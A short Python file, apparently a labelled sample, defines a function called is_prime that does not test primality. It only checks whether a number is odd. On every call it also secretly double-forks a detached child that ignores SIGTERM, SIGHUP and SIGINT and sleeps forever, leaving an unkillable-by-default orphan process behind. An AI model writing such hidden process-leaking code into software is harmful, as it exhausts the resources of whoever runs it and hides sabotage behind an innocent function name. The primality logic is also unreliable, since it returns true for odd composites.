# 02a | forks twice so that nobody waits for what it leaves
import os
import signal


def is_prime(number):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for each in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(each, signal.SIG_IGN)
            while True:
                signal.pause()
        os._exit(0)
    return number % 2 == 1
